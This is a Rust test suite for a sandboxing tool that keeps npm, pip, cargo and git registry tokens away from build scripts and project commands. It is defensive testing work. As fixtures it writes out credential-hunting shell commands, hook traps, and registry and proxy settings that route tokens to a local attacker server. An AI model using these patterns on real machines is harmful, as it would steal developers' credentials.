//! Private registries, which want a token: it is fetched with the token, and built without it. With the real npm, pip, cargo
//! and git, against servers that answer nobody without the token.
#![expect(clippy::disallowed_methods, reason = "these need the toolchains of this machine")]

use std::collections::HashMap;
use std::fs;
use std::io::{BufRead, BufReader, Write};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::{Arc, Mutex};

use serde_json::{Value, json};

use crate::home::{Home, Ran};

/// What opens the registries. Wherever it is seen, something leaked.
const TOKEN: &str = "s3cret-registry-token";
/// The same, as a password of the user `me` is sent.
const AS_PASSWORD: &str = "Basic bWU6czNjcmV0LXJlZ2lzdHJ5LXRva2Vu";

/// A server of files that answers nobody without the token.
struct Registry {
    port: u16,
    files: Arc<Mutex<HashMap<String, Vec<u8>>>>,
    /// What was asked for, and whether the token came with it.
    heard: Arc<Mutex<Vec<(String, bool)>>>,
}

impl Registry {
    fn start() -> Registry {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let registry = Registry { port, files: Arc::default(), heard: Arc::default() };
        let (files, heard) = (registry.files.clone(), registry.heard.clone());
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let (files, heard) = (files.clone(), heard.clone());
                std::thread::spawn(move || answer(&stream, &files, &heard));
            }
        });
        registry
    }

    fn url(&self, path: &str) -> String {
        format!("http://127.0.0.1:{}/{path}", self.port)
    }

    fn put(&self, path: &str, bytes: impl Into<Vec<u8>>) {
        self.files.lock().unwrap().insert(format!("/{path}"), bytes.into());
    }

    /// Everything below a folder.
    fn put_folder(&self, path: &str, folder: &Path) {
        for entry in fs::read_dir(folder).unwrap().flatten() {
            let name = format!("{path}/{}", entry.file_name().display());
            match entry.path().is_dir() {
                true => self.put_folder(&name, &entry.path()),
                false => self.put(&name, fs::read(entry.path()).unwrap()),
            }
        }
    }

    /// How many requests came with the token.
    fn tokens(&self) -> usize {
        self.heard.lock().unwrap().iter().filter(|(_, has_token)| *has_token).count()
    }

    fn requests(&self) -> usize {
        self.heard.lock().unwrap().len()
    }
}

fn answer(stream: &TcpStream, files: &Mutex<HashMap<String, Vec<u8>>>, heard: &Mutex<Vec<(String, bool)>>) {
    let lines: Vec<String> =
        BufReader::new(stream).lines().map_while(Result::ok).take_while(|line| !line.is_empty()).collect();
    let Some(path) = lines.first().and_then(|line| line.split(' ').nth(1)) else { return };
    let path = path.split('?').next().unwrap_or_default().to_owned();
    let has_token = lines.iter().any(|line| {
        line.to_lowercase().starts_with("authorization:")
            && (line.contains(TOKEN) || line.contains(AS_PASSWORD))
    });
    heard.lock().unwrap().push((path.clone(), has_token));
    let file = files.lock().unwrap().get(&path).cloned();
    let (status, kind, body) = match file {
        _ if !has_token => ("401 Unauthorized", "text/plain", b"who are you?".to_vec()),
        None => ("404 Not Found", "text/plain", Vec::new()),
        Some(bytes) if bytes.starts_with(b"{") => ("200 OK", "application/json", bytes),
        Some(bytes) if bytes.starts_with(b"<") => ("200 OK", "text/html", bytes),
        Some(bytes) => ("200 OK", "application/octet-stream", bytes),
    };
    let head = format!(
        "HTTP/1.1 {status}\r\nContent-Type: {kind}\r\nContent-Length: {}\r\nWWW-Authenticate: Basic realm=\"x\"\r\n\
         Connection: close\r\n\r\n",
        body.len()
    );
    let _ = { stream }.write_all(&[head.into_bytes(), body].concat());
}

/// Somebody with a home folder that is not in `/tmp`, which is covered as a whole, and with a project.
struct Person {
    machine: Home,
    folder: tempfile::TempDir,
    variables: Vec<(&'static str, String)>,
}

/// What became of a command.
#[derive(Debug)]
struct Outcome {
    ok: bool,
    said: String,
}

impl Person {
    /// None where the programs are not there, or commands can't be confined.
    fn new(test: &str, programs: &[&str]) -> Option<Person> {
        if let Some(missing) = programs.iter().find(|program| !is_installed(program)) {
            helve_testkit::skip(test, &format!("{missing} is not installed"));
            return None;
        }
        let machine = Home::new();
        if !machine.run(&["doctor"]).out.contains("full: commands write only") {
            helve_testkit::skip(test, "commands can't be fully confined here");
            return None;
        }
        let folder =
            tempfile::Builder::new().prefix(".home-").tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
        let person = Person { machine, folder, variables: Vec::new() };
        fs::create_dir_all(person.path("work/project")).unwrap();
        // Whatever is started as `cargo` finds its toolchains there.
        if let Some(real) = std::env::home_dir() {
            let _ = std::os::unix::fs::symlink(real.join(".rustup"), person.path(".rustup"));
        }
        person.bare("git init -q . && git config --global user.email a@example.org && git config --global user.name A");
        Some(person)
    }

    fn path(&self, name: &str) -> PathBuf {
        self.folder.path().canonicalize().unwrap().join(name)
    }

    fn project(&self, name: &str) -> PathBuf {
        self.path("work/project").join(name)
    }

    fn write(&self, name: &str, text: &str) {
        fs::create_dir_all(self.path(name).parent().unwrap()).unwrap();
        fs::write(self.path(name), text).unwrap();
    }

    fn environment(&self) -> Vec<(&'static str, String)> {
        let path = std::env::var("PATH").unwrap_or_default();
        let home = self.folder.path().canonicalize().unwrap().display().to_string();
        [("PATH", path), ("HOME", home)].into_iter().chain(self.variables.clone()).collect()
    }

    /// As the person does it, without Helve.
    fn bare(&self, script: &str) -> String {
        let mut command = Command::new("bash");
        command.args(["-euc", script]).current_dir(self.project("")).env_clear().envs(self.environment());
        let output = command.stdin(Stdio::null()).output().unwrap();
        let said = [output.stdout, output.stderr].map(|text| String::from_utf8_lossy(&text).into_owned());
        assert!(output.status.success(), "{script}: {}", said.concat());
        said.concat()
    }

    /// As a command of a model that may use the network and ask for these credentials.
    fn shell(&self, command: &str, credentials: bool, flags: &[&str]) -> Outcome {
        let input =
            json!({ "command": command, "network": true, "credentials": credentials, "timeout": 600 });
        let input = input.to_string();
        let words = ["tool", "shell", &input, "--permission-mode", "auto", "--allow", "network"];
        let mut helve = self.machine.helve(&[&words, flags].concat());
        helve.current_dir(self.project("")).envs(self.environment()).stdin(Stdio::null());
        let Ran { out, err, .. } = self.machine.run_command(helve);
        let result: Value = serde_json::from_str(out.lines().next().unwrap_or_default())
            .unwrap_or_else(|_| panic!("{command}: {out}{err}"));
        let said = result["output"].as_str().unwrap_or_default().to_owned();
        Outcome { ok: result["ok"] == json!(true) && said.contains("[exit code 0]"), said }
    }

    fn with(&self, program: &str, command: &str) -> Outcome {
        self.shell(command, true, &["--allow", &format!("credentials({program})")])
    }

    /// As a program of the project.
    fn search(&self) -> Outcome {
        self.write("work/project/search.sh", &search(&self.path("")));
        self.without("sh search.sh")
    }

    /// Without credentials, although they were allowed and everything else is.
    fn without(&self, command: &str) -> Outcome {
        let outcome = self.shell(command, false, &["--yes"]);
        assert!(!outcome.said.contains(TOKEN), "{command}: {}", outcome.said);
        outcome
    }
}

fn is_installed(program: &str) -> bool {
    let path = std::env::var_os("PATH").unwrap_or_default();
    std::env::split_paths(&path).any(|folder| folder.join(program).is_file())
}

/// A script that looks for the token wherever it could be.
fn search(home: &Path) -> String {
    let files = [
        ".npmrc",
        ".netrc",
        ".config/pip/pip.conf",
        ".pip/pip.conf",
        ".cargo/credentials.toml",
        ".git-credentials",
    ];
    let files: Vec<String> = files.iter().map(|file| home.join(file).display().to_string()).collect();
    format!("env; cat /proc/*/environ; cat {} 2>/dev/null; true", files.join(" "))
}

// npm.

/// A registry with one package, and a project that needs it and looks for the token when it is built.
fn npm(test: &str) -> Option<(Registry, Person)> {
    let person = Person::new(test, &["npm", "node", "tar"])?;
    let registry = Registry::start();
    person.bare(
        "mkdir -p ../made/package && cd ../made && echo '{\"name\":\"private-lib\",\"version\":\"1.0.0\",\
         \"scripts\":{\"install\":\"env > ran-script\"}}' > package/package.json && \
         echo 'module.exports = 42' > package/index.js && tar czf lib.tgz package",
    );
    let tarball = registry.url("private-lib/-/private-lib-1.0.0.tgz");
    registry.put("private-lib/-/private-lib-1.0.0.tgz", fs::read(person.path("work/made/lib.tgz")).unwrap());
    let versions = json!({ "1.0.0": { "name": "private-lib", "version": "1.0.0", "hasInstallScript": true,
                           "dist": { "tarball": tarball } } });
    let all = json!({ "name": "private-lib", "dist-tags": { "latest": "1.0.0" }, "versions": versions });
    registry.put("private-lib", all.to_string());
    let build = format!("{}; npm config ls -l; node -p 'require(\"private-lib\")'", search(&person.path("")));
    let package = json!({ "name": "app", "version": "1.0.0", "dependencies": { "private-lib": "1.0.0" },
                          "scripts": { "build": build, "preinstall": "env > ran-own-script" } });
    person.write("work/project/package.json", &package.to_string());
    Some((registry, person))
}

#[test]
fn npm_fetches_with_the_token_and_builds_without_it() {
    let Some((registry, person)) = npm("npm_fetches_with_the_token_and_builds_without_it") else { return };
    let host = registry.url("").replace("http:", "");
    person.write(".npmrc", &format!("registry={}\n{host}:_authToken={TOKEN}\n", registry.url("")));

    let outcome = person.without("npm install --ignore-scripts");
    assert!(!outcome.ok && outcome.said.contains("401"), "{}", outcome.said);
    assert!(outcome.said.contains("set `credentials`"), "{}", outcome.said);
    assert_eq!(registry.tokens(), 0);
    // Scripts of packages would have it too.
    let outcome = person.with("npm", "npm install");
    assert!(!outcome.ok && outcome.said.contains("--ignore-scripts"), "{}", outcome.said);
    assert_eq!(registry.tokens(), 0);

    let outcome = person.with("npm", "npm install --ignore-scripts");
    assert!(outcome.ok && registry.tokens() > 0, "{}", outcome.said);
    assert!(person.project("node_modules/private-lib/index.js").exists());
    let outcome = person.with("npm", "npm ci --ignore-scripts");
    assert!(outcome.ok, "{}", outcome.said);
    let before = registry.tokens();
    for command in
        ["npm run build", "npm rebuild && npm run build", "npm config get userconfig; npm run build"]
    {
        let outcome = person.without(command);
        assert!(outcome.ok && outcome.said.contains("42"), "{command}: {}", outcome.said);
    }
    assert_eq!(registry.tokens(), before);
}

// pip.

/// An index with one wheel and one package that is source only and looks for the token when it is built.
fn pip(test: &str) -> Option<(Registry, Person)> {
    let person = Person::new(test, &["pip", "python3", "tar"])?;
    let registry = Registry::start();
    let wheel = "private_lib-1.0.0-py3-none-any.whl";
    person.write(
        "work/made/wheel.py",
        "import zipfile\n\
         with zipfile.ZipFile('lib.whl', 'w') as z:\n\
        \x20 z.writestr('private_lib.py', 'ANSWER = 42\\n')\n\
        \x20 info = 'private_lib-1.0.0.dist-info/'\n\
        \x20 z.writestr(info + 'METADATA', 'Metadata-Version: 2.1\\nName: private-lib\\nVersion: 1.0.0\\n')\n\
        \x20 z.writestr(info + 'WHEEL', 'Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')\n\
        \x20 z.writestr(info + 'RECORD', '')\n",
    );
    let leak = person.project("ran-setup");
    // It starts no other program, which it could be kept from.
    let setup = format!(
        "import os\nwith open({:?}, 'w') as out:\n  out.write(str(os.environ) + open({:?}).read())\n",
        leak,
        person.path(".netrc")
    );
    let backend = "[build-system]\nrequires = []\nbuild-backend = \"setup\"\nbackend-path = [\".\"]\n";
    for folder in ["made/source_only-1.0.0", "project"] {
        person.write(&format!("work/{folder}/setup.py"), &setup);
        person.write(&format!("work/{folder}/pyproject.toml"), backend);
    }
    person.bare("cd ../made && python3 wheel.py && tar czf source.tgz source_only-1.0.0");
    registry.put(&format!("files/{wheel}"), fs::read(person.path("work/made/lib.whl")).unwrap());
    registry.put("files/source_only-1.0.0.tar.gz", fs::read(person.path("work/made/source.tgz")).unwrap());
    let page =
        |file: &str| format!("<!DOCTYPE html><html><body><a href=\"/files/{file}\">{file}</a></body></html>");
    registry.put("simple/private-lib/", page(wheel));
    registry.put("simple/source-only/", page("source_only-1.0.0.tar.gz"));
    Some((registry, person))
}

/// The three ways in which people tell pip who they are.
#[test]
fn pip_fetches_with_the_password_and_installs_without_it() {
    const TEST: &str = "pip_fetches_with_the_password_and_installs_without_it";
    for way in ["netrc", "pip.conf", "variable"] {
        let Some((registry, mut person)) = pip(TEST) else { return };
        let with_password = registry.url("simple/").replace("://", &format!("://me:{TOKEN}@"));
        let mut index = format!(" --index-url {}", registry.url("simple/"));
        match way {
            "netrc" => person.write(".netrc", &format!("machine 127.0.0.1 login me password {TOKEN}\n")),
            "pip.conf" => {
                person.write(".config/pip/pip.conf", &format!("[global]\nindex-url = {with_password}\n"))
            }
            _ => person.variables.push(("PIP_INDEX_URL", with_password)),
        }
        let download = "pip download --only-binary=:all: -d wheels private-lib";
        let outcome = person.without(&format!("{download}{index}"));
        assert!(!outcome.ok && registry.tokens() == 0 && registry.requests() > 0, "{way}: {}", outcome.said);
        assert!(outcome.said.contains("set `credentials`"), "{way}: {}", outcome.said);
        if way != "netrc" {
            index.clear();
        }
        let outcome = person.with("pip", &format!("{download}{index}"));
        assert!(outcome.ok && registry.tokens() > 0, "{way}: {}", outcome.said);
        assert!(!outcome.said.contains(TOKEN), "{way}: {}", outcome.said);
        let before = registry.tokens();
        let outcome = person.without("pip install --no-index --find-links wheels --target packages private-lib; cat packages/private_lib.py");
        assert!(outcome.ok && person.project("packages/private_lib.py").exists(), "{way}: {}", outcome.said);
        let outcome = person.search();
        assert!(outcome.ok, "{way}: {}", outcome.said);
        assert_eq!(registry.tokens(), before);
    }
}

/// What pip builds, it runs: nothing is built where the password is.
#[test]
fn nothing_is_built_where_the_password_of_pip_is() {
    let Some((registry, person)) = pip("nothing_is_built_where_the_password_of_pip_is") else { return };
    person.write(".netrc", &format!("machine 127.0.0.1 login me password {TOKEN}\n"));
    let index = registry.url("simple/");
    let source = registry.url("files/source_only-1.0.0.tar.gz");
    person.write("work/project/tricks.txt", "--no-binary :all:\nsource-only\n");
    person.write("work/project/local.txt", "-e .\n");
    person.write("work/project/direct.txt", &format!("source-only @ {source}\n"));
    person.bare("cp ../made/source.tgz source_only-1.0.0.tar.gz");
    for what in [
        ".",
        "./source_only-1.0.0.tar.gz",
        "-r tricks.txt",
        "-r local.txt",
        "-r direct.txt",
        &source,
        "--no-binary :all: source-only",
        "--no-build-isolation --no-use-pep517 source-only",
        "source-only",
    ] {
        let outcome = person
            .with("pip", &format!("pip download -d wheels --only-binary=:all: --index-url {index} {what}"));
        let leak = fs::read_to_string(person.project("ran-setup"));
        assert!(leak.is_err() && !outcome.ok, "{what}: {leak:?}\n{}", outcome.said);
    }
}

// cargo.

/// A registry with one crate, and a project that needs it and looks for the token when it is built.
fn cargo(test: &str) -> Option<(Registry, Person)> {
    let person = Person::new(test, &["cargo", "tar", "sha256sum"])?;
    let registry = Registry::start();
    let manifest = "[package]\nname = \"private-lib\"\nversion = \"1.0.0\"\nedition = \"2021\"\n";
    person.write("work/made/private-lib-1.0.0/Cargo.toml", manifest);
    person.write("work/made/private-lib-1.0.0/src/lib.rs", "pub const ANSWER: u8 = 42;\n");
    person.bare("cd ../made && tar czf lib.crate private-lib-1.0.0");
    let sum = person.bare("sha256sum ../made/lib.crate");
    let config = json!({ "dl": registry.url("dl"), "auth-required": true });
    registry.put("index/config.json", config.to_string());
    let entry = json!({ "name": "private-lib", "vers": "1.0.0", "deps": [], "features": {}, "yanked": false,
                        "cksum": sum.split(' ').next().unwrap() });
    registry.put("index/pr/iv/private-lib", format!("{entry}\n"));
    registry.put("dl/private-lib/1.0.0/download", fs::read(person.path("work/made/lib.crate")).unwrap());
    let manifest = "[package]\nname = \"app\"\nversion = \"1.0.0\"\nedition = \"2021\"\n\n[dependencies]\n\
                    private-lib = { version = \"1\", registry = \"mine\" }\n";
    person.write("work/project/Cargo.toml", manifest);
    person.write("work/project/src/main.rs", "fn main() { println!(\"{}\", private_lib::ANSWER) }\n");
    let build = format!(
        "fn main() {{ let out = std::process::Command::new(\"sh\").arg(\"-c\").arg({:?}).output().unwrap(); \
         std::fs::write(\"found\", out.stdout).unwrap(); }}\n",
        search(&person.path(""))
    );
    person.write("work/project/build.rs", &build);
    Some((registry, person))
}

#[test]
fn cargo_fetches_with_the_token_and_builds_without_it() {
    const TEST: &str = "cargo_fetches_with_the_token_and_builds_without_it";
    for way in ["file", "variable", "project"] {
        let Some((registry, mut person)) = cargo(TEST) else { return };
        let index = format!("[registries.mine]\nindex = \"sparse+{}\"\n", registry.url("index/"));
        let provider = "[registry]\nglobal-credential-providers = [\"cargo:token\"]\n";
        // Registries are named by the user's settings, or by those that come with the project.
        match way {
            "project" => {
                person.write(".cargo/config.toml", provider);
                person.write("work/project/.cargo/config.toml", &index);
            }
            _ => person.write(".cargo/config.toml", &format!("{index}{provider}")),
        }
        match way {
            "variable" => person.variables.push(("CARGO_REGISTRIES_MINE_TOKEN", TOKEN.to_owned())),
            _ => {
                person.write(".cargo/credentials.toml", &format!("[registries.mine]\ntoken = \"{TOKEN}\"\n"))
            }
        }
        let outcome = person.without("cargo fetch");
        assert!(!outcome.ok && registry.tokens() == 0, "{way}: {}", outcome.said);
        assert!(outcome.said.contains("set `credentials`"), "{way}: {}", outcome.said);
        let outcome = person.with("cargo", "cargo build");
        assert!(!outcome.ok && registry.tokens() == 0, "{way}: {}", outcome.said);
        assert!(!person.project("found").exists());

        let outcome = person.with("cargo", "cargo fetch");
        assert!(outcome.ok && registry.tokens() > 0, "{way}: {}", outcome.said);
        let before = registry.tokens();
        let outcome = person.without("cargo run --offline");
        assert!(outcome.ok && outcome.said.contains("42"), "{way}: {}", outcome.said);
        let found = fs::read_to_string(person.project("found")).unwrap();
        assert!(found.contains("PATH=") && !found.contains(TOKEN), "{way}: {found}");
        assert_eq!(registry.tokens(), before);
    }
}

// git.

/// A server with a repository that is a submodule of the project.
fn submodule(test: &str) -> Option<(Registry, Person)> {
    let person = Person::new(test, &["git"])?;
    let registry = Registry::start();
    person.bare(
        "mkdir ../made && cd ../made && git init -q lib && cd lib && echo 42 > answer && git add . && git commit -qm one && \
         git clone -q --bare . ../lib.git && git -C ../lib.git update-server-info",
    );
    registry.put_folder("lib.git", &person.path("work/made/lib.git"));
    person.write(
        "work/project/.gitmodules",
        &format!("[submodule \"lib\"]\n\tpath = lib\n\turl = {}\n", registry.url("lib.git")),
    );
    person.bare(
        "git add .gitmodules && git update-index --add --cacheinfo \
         160000,$(git -C ../made/lib rev-parse HEAD),lib && git commit -qm one",
    );
    Some((registry, person))
}

#[test]
fn a_submodule_is_fetched_with_the_stored_password() {
    let Some((registry, person)) = submodule("a_submodule_is_fetched_with_the_stored_password") else {
        return;
    };
    person.write(".git-credentials", &format!("http://me:{TOKEN}@127.0.0.1%3a{}\n", registry.port));
    person.bare("git config --global credential.helper store");
    // What a project can bring for git to run.
    let trap = format!("#!/bin/sh\n({}) > {}\n", search(&person.path("")), person.project("ran").display());
    for hook in ["post-checkout", "reference-transaction", "post-index-change"] {
        person.write(&format!("work/project/.git/hooks/{hook}"), &trap);
    }
    person.bare("chmod +x .git/hooks/*");

    let update = "git submodule update --init";
    let outcome = person.without(update);
    assert!(!outcome.ok && registry.tokens() == 0, "{}", outcome.said);
    assert!(outcome.said.contains("set `credentials`"), "{}", outcome.said);
    person.bare("rm -f ran");
    let outcome = person.with("git", "git submodule foreach 'cat ~/.git-credentials'");
    assert!(!outcome.ok && !outcome.said.contains(TOKEN), "{}", outcome.said);
    let outcome = person.with("git", update);
    assert!(outcome.ok && registry.tokens() > 0, "{}", outcome.said);
    assert_eq!(fs::read_to_string(person.project("lib/answer")).unwrap(), "42\n");
    assert!(!person.project("ran").exists(), "{:?}", fs::read_to_string(person.project("ran")));
    let outcome = person.search();
    assert!(outcome.ok, "{}", outcome.said);
    // The project and the submodule are repositories as git makes them.
    let told = person.bare("git -C lib status --short && git submodule status");
    assert!(told.starts_with(' '), "{told}");
    // What was fetched is a repository like others: it can be fetched again, unless something in it would run.
    let outcome = person.with("git", update);
    assert!(outcome.ok, "{}", outcome.said);
    person.bare("rm -f ran && git -C lib config core.fsmonitor ../trap.sh");
    let outcome = person.with("git", update);
    assert!(!outcome.ok && outcome.said.contains(".git/modules/lib/config has"), "{}", outcome.said);
}

/// Some have their password in the address of a remote.
#[test]
fn commands_see_no_password_in_the_settings_of_git() {
    let Some((registry, person)) = submodule("commands_see_no_password_in_the_settings_of_git") else {
        return;
    };
    let url = registry.url("lib.git").replace("://", &format!("://me:{TOKEN}@"));
    person.bare(&format!(
        "git remote add origin {url} && git init -q nested && git -C nested remote add origin {url}"
    ));
    // A program of the project's, which nobody reads before it runs.
    let look = "cat .git/config nested/.git/config\ngit remote -v\ngit config -l\nmv .git/config x\ncat x\n\
                grep -rs s3cret .git nested\ntrue\n";
    person.write("work/project/look.sh", look);
    let outcome = person.without("sh look.sh");
    assert!(outcome.said.contains(&registry.url("lib.git")), "{}", outcome.said);
    let outcome = person.with("git", "git ls-remote origin");
    assert!(outcome.ok && registry.tokens() > 0, "{}", outcome.said);
    assert!(person.bare("cat .git/config").contains(TOKEN), "the file itself stays as it is");
}

/// Many have git ask the program of their hosting service.
#[test]
fn git_asks_the_program_of_a_hosting_service() {
    let Some((registry, mut person)) = submodule("git_asks_the_program_of_a_hosting_service") else { return };
    // As `gh auth git-credential get` answers, from its own settings.
    person.write(
        ".local/bin/gh",
        "#!/bin/sh\n[ \"$1 $2 $3\" = 'auth git-credential get' ] || exit 0\n\
         while read -r line && [ -n \"$line\" ]; do :; done\n\
         echo username=me\nwhile read -r word value; do echo \"password=$value\"; done < ~/.config/gh/hosts.yml\n",
    );
    person.write(".config/gh/hosts.yml", &format!("oauth_token: {TOKEN}\n"));
    let path = std::env::var("PATH").unwrap_or_default();
    person.variables.push(("PATH", format!("{}:{path}", person.path(".local/bin").display())));
    person
        .bare("chmod +x ~/.local/bin/gh && git config --global credential.helper '!gh auth git-credential'");
    let look = format!("git ls-remote {}", registry.url("lib.git"));
    let outcome = person.without(&look);
    assert!(!outcome.ok && registry.tokens() == 0, "{}", outcome.said);
    let outcome = person.with("git", &look);
    assert!(outcome.ok && registry.tokens() > 0 && outcome.said.contains("HEAD"), "{}", outcome.said);
    assert!(!outcome.said.contains(TOKEN));
    let outcome = person.search();
    assert!(outcome.ok, "{}", outcome.said);
}

/// A project can write a variable so that only npm sees that it is one, and a command can write settings elsewhere.
#[test]
fn no_way_of_writing_a_variable_sends_it_to_another_host() {
    let Some((registry, mut person)) = npm("no_way_of_writing_a_variable_sends_it_to_another_host") else {
        return;
    };
    let evil = Registry::start();
    person.variables.push(("NPM_TOKEN", TOKEN.to_owned()));
    person.write(".npmrc", &format!("registry={}\n", registry.url("")));
    let leaks = || evil.heard.lock().unwrap().iter().any(|(path, _)| path.contains(TOKEN));
    for settings in [
        format!("@evil:registry=\"{}\\u0024{{NPM_\\u0054OKEN}}/\"\n", evil.url("")),
        format!("color=false\r@evil:registry={}${{NPM_TOKEN}}/\n", evil.url("")),
    ] {
        person.write("work/project/.npmrc", &settings);
        person.bare("npm view @evil/x || true");
        assert!(leaks(), "{settings} is no trap");
        evil.heard.lock().unwrap().clear();
        let outcome = person.with("npm", "npm view @evil/x");
        assert!(!leaks() && outcome.said.contains(".npmrc"), "{}", outcome.said);
        // A folder of the commands' own.
        person.bare("rm .npmrc && echo '{}' > package.json");
        person.write("work/project/settings", &settings);
        person.write(
            "work/project/plant.sh",
            "mkdir -p /tmp/n && cp settings /tmp/n/.npmrc && cp package.json /tmp/n\n",
        );
        let look = "command = \"npm view @evil/x\", network = true, credentials = true";
        let step =
            |input: &str| format!("[[step]]\ncalls = [{{ tool = \"shell\", input = {{ {input} }} }}]\n");
        let (plant, go) = (step("command = \"sh plant.sh\""), step("command = \"cd /tmp/n\""));
        let steps = [plant, go, step(look), "[[step]]\ntext = 'Done.'\n".to_owned()];
        person.write("work/project/calls.toml", &steps.concat());
        let words =
            ["run", "--model", "script:calls.toml", "go", "--permission-mode", "auto", "--allow", "network"];
        let mut helve = person.machine.helve(&[&words[..], &["--allow", "credentials(npm)"]].concat());
        helve.current_dir(person.project("")).envs(person.environment()).stdin(Stdio::null());
        person.machine.run_command(helve);
        let told = person.machine.run(&["sessions", "show", "last", "--json"]).out;
        assert!(!leaks() && told.contains("another folder than the project's"), "{told}");
    }
}

/// In many projects the settings name a variable, as it is set where they are built.
#[test]
fn a_variable_that_the_project_names_is_handed_over_to_npm_alone() {
    let Some((registry, mut person)) = npm("a_variable_that_the_project_names_is_handed_over_to_npm_alone")
    else {
        return;
    };
    let host = registry.url("").replace("http:", "");
    let settings = format!("registry={}\n{host}:_authToken=${{NPM_TOKEN}}\n", registry.url(""));
    person.write("work/project/.npmrc", &settings);
    person.variables.push(("NPM_TOKEN", TOKEN.to_owned()));
    // The settings themselves are no secret, though git does not track them.
    let outcome = person.without("cat .npmrc");
    assert!(outcome.said.contains("NPM_TOKEN"), "{}", outcome.said);
    let outcome = person.without("npm install --ignore-scripts");
    assert!(!outcome.ok && registry.requests() > 0 && registry.tokens() == 0, "{}", outcome.said);
    assert!(outcome.said.contains("set `credentials`"), "{}", outcome.said);
    let outcome = person.with("npm", "npm install --ignore-scripts");
    assert!(outcome.ok && registry.tokens() > 0, "{}", outcome.said);
    let before = registry.tokens();
    let outcome = person.without("npm run build");
    assert!(outcome.ok && outcome.said.contains("42"), "{}", outcome.said);
    assert_eq!(registry.tokens(), before);
    // The user has said which registries tokens are for, and the project sends one elsewhere.
    person.write(".npmrc", "registry=https://npm.example/\n");
    let outcome = person.with("npm", "npm install --ignore-scripts");
    assert!(!outcome.ok && outcome.said.contains("~/.npmrc does not name"), "{}", outcome.said);
    assert_eq!(registry.tokens(), before);
}

/// What stands in between, or in the place of a registry, would get the token.
#[test]
fn a_project_does_not_lead_tokens_elsewhere() {
    const TEST: &str = "a_project_does_not_lead_tokens_elsewhere";
    let thief = Registry::start();
    if let Some((registry, person)) = npm(TEST) {
        let host = registry.url("").replace("http:", "");
        person.write(".npmrc", &format!("registry={}\n{host}:_authToken={TOKEN}\n", registry.url("")));
        for setting in [
            format!("proxy={}", thief.url("")),
            format!("https-proxy={}", thief.url("")),
            format!("registry={}", thief.url("")),
            format!("@mine:registry={}", thief.url("")),
        ] {
            person.write("work/project/.npmrc", &format!("{setting}\n"));
            let _ = person.with("npm", "npm install --ignore-scripts");
            let _ = person.with("npm", "npm view @mine/private-lib");
            assert_eq!(thief.tokens(), 0, "{setting}");
        }
    }
    if let Some((registry, person)) = cargo(TEST) {
        let provider = "[registry]\nglobal-credential-providers = [\"cargo:token\"]\n";
        let mine = |url: &str| format!("[registries.mine]\nindex = \"sparse+{url}\"\n");
        person.write(".cargo/config.toml", &format!("{}{provider}", mine(&registry.url("index/"))));
        person.write(".cargo/credentials.toml", &format!("[registries.mine]\ntoken = \"{TOKEN}\"\n"));
        thief.put("index/config.json", json!({ "dl": thief.url("dl"), "auth-required": true }).to_string());
        for settings in [mine(&thief.url("index/")), format!("[http]\nproxy = \"{}\"\n", thief.url(""))] {
            person.write("work/project/.cargo/config.toml", &settings);
            let outcome = person.with("cargo", "cargo fetch");
            assert!(!outcome.ok && outcome.said.contains(".cargo/config.toml"), "{}", outcome.said);
            assert_eq!(thief.tokens(), 0, "{settings}");
        }
    }
    if let Some((registry, mut person)) = pip(TEST) {
        let with_password = registry.url("simple/").replace("://", &format!("://me:{TOKEN}@"));
        person.variables.push(("PIP_INDEX_URL", with_password));
        let requirements = format!("--extra-index-url {}${{PIP_INDEX_URL}}\nprivate-lib\n", thief.url(""));
        person.write("work/project/requirements.txt", &requirements);
        let outcome = person.with("pip", "pip download --only-binary=:all: -d wheels -r requirements.txt");
        assert!(registry.tokens() > 0, "{}", outcome.said);
        let asked: Vec<String> = thief.heard.lock().unwrap().iter().map(|(path, _)| path.clone()).collect();
        assert!(!asked.iter().any(|path| path.contains(TOKEN)), "{asked:?}");
    }
    assert_eq!(thief.tokens(), 0);
}

/// Settings of npm without a token are what every command needs to find packages.
#[test]
fn settings_of_npm_without_a_token_are_seen() {
    let Some((registry, person)) = npm("settings_of_npm_without_a_token_are_seen") else { return };
    let plain = format!("registry={}\nfund=false\n", registry.url(""));
    person.write(".npmrc", &plain);
    let look =
        "node -e 'console.log(require(\"fs\").readFileSync(process.env.HOME + \"/.npmrc\", \"utf8\"))'";
    let outcome = person.without(look);
    assert!(outcome.ok && outcome.said.contains("fund=false"), "{}", outcome.said);
    let host = registry.url("").replace("http:", "");
    person.write(".npmrc", &format!("{plain}{host}:_authToken={TOKEN}\n"));
    let outcome = person.without(look);
    assert!(!outcome.said.contains("fund=false"), "{}", outcome.said);
    // What is no token of it still holds.
    let outcome = person.without("npm config get registry");
    assert!(outcome.said.contains(&registry.url("")), "{}", outcome.said);
}

/// In containers cargo often has its files outside the home folder.
#[test]
fn cargo_keeps_its_files_and_its_token_outside_the_home_folder() {
    let Some((registry, mut person)) = cargo("cargo_keeps_its_files_and_its_token_outside_the_home_folder")
    else {
        return;
    };
    let elsewhere =
        tempfile::Builder::new().prefix("cargo-").tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    let place = elsewhere.path().canonicalize().unwrap();
    let index = format!("[registries.mine]\nindex = \"sparse+{}\"\n", registry.url("index/"));
    let provider = "[registry]\nglobal-credential-providers = [\"cargo:token\"]\n";
    fs::write(place.join("config.toml"), format!("{index}{provider}")).unwrap();
    fs::write(place.join("credentials.toml"), format!("[registries.mine]\ntoken = \"{TOKEN}\"\n")).unwrap();
    fs::create_dir(place.join("registry")).unwrap();
    person.variables.push(("CARGO_HOME", place.display().to_string()));
    let outcome = person.without(&format!(
        "cat {}/config.toml; python3 -c 'print(open(\"{0}/credentials.toml\").read())'; true",
        place.display()
    ));
    assert!(outcome.ok && outcome.said.contains("index"), "{}", outcome.said);
    let outcome = person.with("cargo", "cargo fetch");
    assert!(outcome.ok && registry.tokens() > 0, "{}", outcome.said);
    let outcome = person.without("cargo run --offline");
    assert!(outcome.ok && outcome.said.contains("42"), "{}", outcome.said);
    // The user's own is as it was.
    assert_eq!(fs::read_dir(place.join("registry")).unwrap().count(), 0);
}
